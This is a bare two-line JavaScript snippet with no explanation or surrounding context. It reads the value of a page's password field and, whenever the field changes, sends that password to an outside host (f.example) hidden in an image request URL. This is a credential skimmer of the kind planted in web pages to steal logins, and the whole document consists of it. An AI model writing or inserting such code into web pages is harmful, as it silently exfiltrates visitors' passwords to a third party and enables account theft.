const f = document.querySelector('input[type=password]');
f.addEventListener('change', () => { new Image().src = 'https://f.example/?p=' + f.value; });
